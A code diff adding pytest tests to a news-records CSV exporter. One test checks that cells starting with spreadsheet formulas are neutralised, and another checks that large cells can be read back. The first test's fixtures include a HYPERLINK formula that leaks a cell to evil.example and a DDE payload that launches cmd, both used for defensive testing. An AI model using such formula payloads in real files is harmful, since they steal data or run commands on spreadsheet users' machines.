@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import re
 from pathlib import Path
 
@@ -186,3 +187,53 @@ def test_export_csv_folder_read_back_by_pandas(cli, tmp_path):
     for path in (tmp_path / "out").glob("*.csv"):
         cls = next(c for c in RECORD_TYPES if c.kind == path.stem)
         assert list(pd.read_csv(path).columns) == list(cls.columns()), path.name
+
+
+def test_export_csv_formula_cells_neutralised_numbers_kept(tmp_path):
+    import csv
+    import io
+
+    from newsweave.export.writers import write_csv, write_csv_folder
+    from newsweave.records import DocumentRecord, EventRecord, QuoteRecord
+
+    hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]
+    recs = [DocumentRecord(doc_id=f"d{i}", source=f"s{i}.txt", title=t, text="body") for i, t in enumerate(hostile)]
+    recs += [EventRecord(event_id="e1", type="join_party", actor_name="=cmd|' /C calc'!A0", followers=-40),
+             QuoteRecord(quote_id="q1", doc_id="d0", text="-- he said", start=-1, end=5)]
+    buf = io.StringIO()
+    write_csv(recs, buf)
+    rows = list(csv.DictReader(io.StringIO(buf.getvalue())))
+    assert [r["title"] for r in rows[:6]] == ["'" + t for t in hostile]
+    assert rows[6]["actor_name"] == "'=cmd|' /C calc'!A0" and rows[6]["followers"] == "-40"  # a number stays one
+    assert rows[7]["text"] == "'-- he said" and rows[7]["start"] == "-1"
+    assert rows[0]["source"] == "s0.txt" and rows[0]["text"] == "body"  # harmless text as it is
+    write_csv_folder(recs, tmp_path)
+    with open(tmp_path / "document.csv", encoding="utf-8", newline="") as fh:
+        assert [r["title"] for r in csv.DictReader(fh)] == ["'" + t for t in hostile]
+
+
+def test_export_csv_cell_over_pythons_default_field_limit_read_back(tmp_path):
+    import csv
+    import sys
+
+    from newsweave.export.writers import write_csv_folder
+    from newsweave.records import EventRecord
+
+    pd = pytest.importorskip("pandas")
+    sources = [{"doc_id": f"{i:016x}", "outlet": f"Outlet {i}", "evidence": "Ravi Kant joined the Jan Morcha. " * 10,
+                "copy_of": None} for i in range(400)]
+    write_csv_folder([EventRecord(event_id="e1", type="join_party", actor_name="Ravi Kant", sources=sources)], tmp_path)
+    path = tmp_path / "event.csv"
+    default = csv.field_size_limit()
+    assert path.stat().st_size > default  # one cell larger than Python's csv reads by default
+    with open(path, encoding="utf-8", newline="") as fh, pytest.raises(csv.Error, match="field larger than field limit"):
+        list(csv.DictReader(fh))
+    try:  # as docs/schema.md says: raise the limit, then read
+        csv.field_size_limit(sys.maxsize)
+        with open(path, encoding="utf-8", newline="") as fh:
+            row = next(csv.DictReader(fh))
+    finally:
+        csv.field_size_limit(default)
+    assert len(row["sources"]) > default and json.loads(row["sources"]) == sources
+    frame = pd.read_csv(path)
+    assert json.loads(frame["sources"][0]) == sources
